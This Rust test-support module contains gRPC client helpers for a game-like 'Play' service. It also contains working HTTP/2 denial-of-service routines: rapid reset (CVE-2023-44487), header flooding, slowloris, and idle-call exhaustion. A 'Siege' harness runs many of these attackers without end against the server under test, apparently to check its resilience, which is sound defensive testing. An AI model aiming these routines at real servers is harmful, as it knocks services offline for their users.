//! Test clients: an agent, and attacks on an HTTP/2 server.

use super::{RUN_TOKEN, TestServer, soon};
use avln_proto::v1::{
    self, PlayRequest, PlayResponse, play_request::Frame as Up, play_response::Frame as Down,
    play_service_client::PlayServiceClient,
};
use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use std::{net::SocketAddr, time::Duration};
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    runtime::{Builder, Runtime},
    sync::mpsc,
    time::sleep,
};
use tokio_stream::wrappers::ReceiverStream;
use tonic::{
    Request, Status, Streaming,
    transport::{Channel, Endpoint},
};

pub(crate) async fn channel(server: &TestServer) -> Channel {
    let endpoint = Endpoint::from_shared(format!("http://{}", server.address)).unwrap();
    let endpoint = endpoint.max_frame_size(256 << 10).initial_stream_window_size(2 << 20);
    soon(endpoint.connect()).await.unwrap()
}

pub(crate) async fn play_client(server: &TestServer) -> PlayServiceClient<Channel> {
    PlayServiceClient::new(channel(server).await).max_decoding_message_size(avln_proto::MAX_MESSAGE_BYTES)
}

pub(crate) fn authorised<T>(message: T, token: &str) -> Request<T> {
    let mut request = Request::new(message);
    request.metadata_mut().insert("authorization", format!("Bearer {token}").parse().unwrap());
    request
}

/// Returns the reason in the trailer of a status.
pub(crate) fn reason(status: &Status) -> String {
    let word = status.metadata().get(avln_proto::REASON_KEY);
    word.map(|word| word.to_str().unwrap().to_owned()).unwrap_or_default()
}

/// Returns a Hello for small pictures.
pub(crate) fn hello(slots: u32) -> v1::Hello {
    let wish = |kind: v1::SensorKind| v1::SensorWish { kind: kind.into(), encodings: vec![] };
    let kinds = [v1::SensorKind::Rgb, v1::SensorKind::Depth, v1::SensorKind::Audio];
    v1::Hello {
        slots,
        client: Some(v1::ClientInfo { name: "toy".into(), version: "1.0.0".into(), api_minor: 0 }),
        sensors: Some(v1::SensorSubscription {
            wishes: kinds.map(wish).to_vec(),
            width: 64,
            height: 64,
            hfov_rad: 1.5,
        }),
        ..v1::Hello::default()
    }
}

/// An agent on a Play stream.
pub(crate) struct Agent {
    up: Option<mpsc::Sender<PlayRequest>>,
    down: Streaming<PlayResponse>,
    pub(crate) welcome: v1::Welcome,
}

impl Agent {
    /// Opens a stream with any first frames.
    pub(crate) async fn dial(server: &TestServer, token: &str, frames: Vec<Up>) -> Result<Self, Status> {
        let (up, queue) = mpsc::channel(256);
        for frame in frames {
            up.send(PlayRequest { frame: Some(frame) }).await.unwrap();
        }
        let request = authorised(ReceiverStream::new(queue), token);
        let down = soon(play_client(server).await.play(request)).await?.into_inner();
        Ok(Self { up: Some(up), down, welcome: v1::Welcome::default() })
    }

    /// Opens a stream with Hello and Welcome.
    pub(crate) async fn enter(server: &TestServer, slots: u32) -> Self {
        Self::enter_with(server, slots, 64).await
    }

    /// Opens a stream with pictures of another size.
    pub(crate) async fn enter_with(server: &TestServer, slots: u32, side: u32) -> Self {
        let mut hello = hello(slots);
        if let Some(sensors) = &mut hello.sensors {
            (sensors.width, sensors.height) = (side, side);
        }
        let mut agent = Self::dial(server, RUN_TOKEN, vec![Up::Hello(hello)]).await.unwrap();
        agent.welcome = agent.welcomed().await;
        agent
    }

    pub(crate) async fn welcomed(&mut self) -> v1::Welcome {
        match self.next().await {
            Ok(Some(Down::Welcome(welcome))) => welcome,
            other => panic!("no Welcome but {other:?}"),
        }
    }

    /// Resumes the run after a lost connection. `known` was received last.
    pub(crate) async fn resume(server: &TestServer, slots: u32, known: &[(u32, &str, u32)]) -> Self {
        let position = |&(slot, episode, step): &(u32, &str, u32)| v1::SlotPosition {
            slot,
            episode: episode.into(),
            step,
        };
        let known = known.iter().map(position).collect();
        let hello = v1::Hello { resume: true, known, ..hello(slots) };
        let mut agent = Self::dial(server, RUN_TOKEN, vec![Up::Hello(hello)]).await.unwrap();
        agent.welcome = agent.welcomed().await;
        agent
    }

    pub(crate) async fn send(&self, frame: Up) {
        self.send_raw(PlayRequest { frame: Some(frame) }).await;
    }

    pub(crate) async fn send_raw(&self, request: PlayRequest) {
        self.up.as_ref().unwrap().send(request).await.unwrap();
    }

    pub(crate) async fn act(&self, slot: u32, episode: &str, step: u32, action: i32) {
        self.send(Up::Act(v1::Act { slot, episode: episode.into(), step, action })).await;
    }

    pub(crate) async fn goodbye(&self) {
        self.send(Up::Goodbye(v1::Goodbye { pause: false })).await;
    }

    /// Closes the sending half without Goodbye.
    pub(crate) fn hang_up(&mut self) {
        self.up = None;
    }

    /// Returns the next frame other than a Ping; `None` if the stream ended without an error.
    pub(crate) async fn next(&mut self) -> Result<Option<Down>, Status> {
        loop {
            match soon(self.down.message()).await?.map(|response| response.frame.unwrap()) {
                Some(Down::Ping(_)) => {}
                frame => return Ok(frame),
            }
        }
    }

    /// Returns the next Ping.
    pub(crate) async fn ping(&mut self) -> v1::Ping {
        match soon(self.down.message()).await.unwrap().and_then(|response| response.frame) {
            Some(Down::Ping(ping)) => ping,
            other => panic!("no Ping but {other:?}"),
        }
    }

    async fn frame(&mut self) -> Down {
        match self.next().await {
            Ok(Some(frame)) => frame,
            other => panic!("the stream ended: {other:?}"),
        }
    }

    /// Requests an episode.
    pub(crate) async fn ready(&mut self, slot: u32) -> v1::EpisodeStart {
        self.send(Up::Ready(v1::Ready { slot })).await;
        self.episode_start().await
    }

    pub(crate) async fn episode_start(&mut self) -> v1::EpisodeStart {
        match self.frame().await {
            Down::EpisodeStart(start) => start,
            other => panic!("no EpisodeStart but {other:?}"),
        }
    }

    pub(crate) async fn observation(&mut self) -> v1::Observation {
        match self.frame().await {
            Down::Observation(observation) => observation,
            other => panic!("no Observation but {other:?}"),
        }
    }

    pub(crate) async fn episode_end(&mut self) -> v1::EpisodeEnd {
        match self.frame().await {
            Down::EpisodeEnd(end) => end,
            other => panic!("no EpisodeEnd but {other:?}"),
        }
    }

    pub(crate) async fn fault(&mut self) -> v1::Fault {
        match self.frame().await {
            Down::Fault(fault) => fault,
            other => panic!("no Fault but {other:?}"),
        }
    }

    pub(crate) async fn run_end(&mut self) -> v1::RunEnd {
        match self.frame().await {
            Down::RunEnd(end) => end,
            other => panic!("no RunEnd but {other:?}"),
        }
    }
}

/// Kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Opens calls and resets them at once (CVE-2023-44487), on consecutive connections.
    RapidReset,
    /// Sends headers as large as the client library allows.
    HeaderFlood,
    /// Connects and sends single bytes slowly.
    SlowLoris,
    /// Opens as many calls as possible and leaves them open.
    IdleCalls,
}

impl Attack {
    pub(crate) const ALL: [Self; 4] = [Self::RapidReset, Self::HeaderFlood, Self::SlowLoris, Self::IdleCalls];

    /// Attacks without end.
    pub(crate) async fn rage(self, address: SocketAddr) {
        loop {
            // The server may end the attack with any error.
            let _ = self.once(address).await;
            sleep(Duration::from_millis(1)).await;
        }
    }

    /// Attacks on one connection until the server closes it.
    pub(crate) async fn once(self, address: SocketAddr) -> Outcome {
        match self {
            Self::RapidReset => rapid_reset(address).await,
            Self::HeaderFlood => header_flood(address).await,
            Self::SlowLoris => slow_loris(address).await,
            Self::IdleCalls => idle_calls(address).await,
        }
    }
}

/// Many attackers on their own threads, until it is dropped.
pub(crate) struct Siege(Option<Runtime>);

impl Siege {
    pub(crate) fn lay(attack: Attack, address: SocketAddr, attackers: usize) -> Self {
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        for _ in 0..attackers {
            runtime.spawn(attack.rage(address));
        }
        Self(Some(runtime))
    }
}

impl Drop for Siege {
    fn drop(&mut self) {
        if let Some(runtime) = self.0.take() {
            runtime.shutdown_background();
        }
    }
}

pub(crate) type Outcome = Result<(), Box<dyn std::error::Error + Send + Sync>>;

async fn dial(address: SocketAddr) -> Result<SendRequest<Bytes>, Box<dyn std::error::Error + Send + Sync>> {
    let (sender, connection) = h2::client::handshake(TcpStream::connect(address).await?).await?;
    tokio::spawn(connection);
    Ok(sender)
}

fn call(address: SocketAddr) -> http::request::Builder {
    let path = format!("http://{address}/avln.v1.PlayService/Play");
    http::Request::post(path).header("content-type", "application/grpc").header("te", "trailers")
}

async fn rapid_reset(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    for _ in 0..5000 {
        sender = sender.ready().await?;
        let (_, mut stream) = sender.send_request(call(address).body(())?, false)?;
        stream.send_reset(Reason::CANCEL);
    }
    Ok(())
}

async fn header_flood(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    for _ in 0..200 {
        sender = sender.ready().await?;
        let mut call = call(address);
        for number in 0..64 {
            call = call.header(format!("x-flood-{number}"), "x".repeat(1000));
        }
        let (response, _) = sender.send_request(call.body(())?, true)?;
        response.await?;
    }
    Ok(())
}

async fn slow_loris(address: SocketAddr) -> Outcome {
    let mut stream = TcpStream::connect(address).await?;
    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".iter().cycle() {
        stream.write_all(&[*byte]).await?;
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

async fn idle_calls(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    let mut open = Vec::new();
    for _ in 0..100 {
        sender = sender.ready().await?;
        open.push(sender.send_request(call(address).header("authorization", "Bearer x").body(())?, false)?);
    }
    sleep(Duration::from_secs(30)).await;
    Ok(())
}
